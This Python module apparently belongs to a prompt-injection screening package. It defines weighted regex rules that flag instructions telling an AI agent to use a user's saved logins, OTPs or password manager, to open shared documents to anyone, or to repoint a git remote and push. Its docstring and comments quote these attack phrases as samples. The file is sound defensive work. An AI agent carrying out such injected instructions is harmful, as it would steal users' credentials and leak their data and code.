"""Round 18: an agent told to act on the user's accounts (``tools``; part of :mod:`.tools`'s
``RULES``, English, ``words`` view): the user's saved logins, one-time codes or password
manager used ("open the user's password manager tab, copy the saved logins", "confirm with the
saved OTP", "enter their saved email address"); a drive or wiki opened to anyone ("change the
sharing settings to anyone with the link can edit", "create a new public link to it"); a
repository pointed elsewhere and pushed ("git remote set-url origin https://... && git push
--all"). A stranger made a maintainer is ``privileged_action``'s.

Each is weak (0.5): help pages say "open your banking app and confirm with the code", migration
guides "set-url then push --all", and a user asks to share a deck with "anyone with the link". They block beside another signal: an
order addressed to the AI reader, a hidden text, a demand to keep it from the user.
"""

from __future__ import annotations

from proxyify_asgi.screening.rules._base import Rule, rule

FAMILY = "tools"

_STORED = (
    r"(?:(?:the |their |his |her |all )?(?:user s |users |customer s )?(?:saved|stored|remembered|autofill(?:ed)?) "
    r"(?:\S{1,40} )?(?:logins?|passwords?|credentials|otps?|one time (?:codes?|passwords?)|2fa codes?|codes?|cards?|"
    r"card details|payment details|email address(?:es)?)|(?:the |their |his |her )?(?:user s |users )?(?:password "
    r"manager|bank(?:ing)? (?:tab|app|session|account)|authenticator(?: app)?|keychain))"
)
_USE = (
    r"(?:open|copy|use|enter|submit|paste|export|read|confirm (?:it |this |them )?(?:with|using)|log in with|"
    r"sign in with|send|forward|upload|type|go to|switch to)"
)

RULES: tuple[Rule, ...] = (
    # "open the user's password manager tab, copy the saved logins", "confirm with the saved OTP"
    rule(FAMILY, "stored_credentials_used", 0.5, "words",
         "open|copy|use|enter|submit|paste|export|read|confirm|log|sign|send|forward|upload|type|go|switch"
         " & saved|stored|remembered|autofill|autofilled|manager|bank|banking|authenticator|keychain",
         rf"\b{_USE} (?:\S{{1,40}} ){{0,2}}?{_STORED}\b", group="privileged_action"),
    # "change the wiki's sharing settings to 'anyone with the link can edit'", "create a new public
    # link to it" (``expose_data`` reads "share the user's calendar publicly")
    rule(FAMILY, "opened_to_anyone", 0.5, "words", "sharing|share|access|link|visibility & anyone|public|everyone",
         r"\b(?:(?:change|set|switch|turn|make|update) (?:\S{1,40} ){0,4}?(?:sharing|share|access|link|visibility) "
         r"(?:settings? |permissions? |level )?to (?:anyone|public|everyone)|(?:create|generate|make|add) (?:a |an )?"
         r"(?:new )?(?:public|anyone can edit) (?:share )?link)\b", group="expose_data"),
    # "git remote set-url origin https://git.mirror.example/... && git push --all"
    rule(FAMILY, "remote_repointed", 0.5, "words", "remote & push",
         r"\bgit remote (?:set url|add) (?:\S{1,40} ){1,14}?git push (?:\S{1,40} )?(?:all|mirror|"
         r"force|tags)\b", group="remote_repointed", starts="git"),
)
